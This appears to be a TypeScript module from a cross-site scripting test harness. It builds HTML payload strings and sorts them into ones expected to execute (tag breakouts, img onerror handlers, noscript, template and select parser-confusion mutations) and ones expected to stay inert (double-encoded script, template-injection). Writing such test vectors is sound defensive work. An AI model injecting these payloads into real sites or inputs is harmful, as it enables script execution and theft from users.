import type { Code } from './code.ts';
import { alive, dead, type Vector } from './vector.ts';

/** Text that only the parser turns into a script, or does not. */
export const parsing = ({ js, bare, url }: Code): Vector[] => [
  ...alive([
    `</title></textarea></style><script>${js}</script>`,
    `<img src=x onerror=${bare}//`,
    `<!-- --!><script>${js}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${bare}>">`,
    `<div><template shadowrootmode=open><script>${js}</script></template></div>`,
    `<select><img src=x onerror=${bare}></select>`,
    `<svg></p><style><a title="</style><img src=x onerror=${bare}>">`,
  ]),
  ...dead([
    `<template><script>${js}</script></template>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${bare}&gt;">`,
    `%253Cscript%253E${url}%253C/script%253E`,
    `{{constructor.constructor("${js.replaceAll('"', '\\"')}")()}}`,
  ]),
];
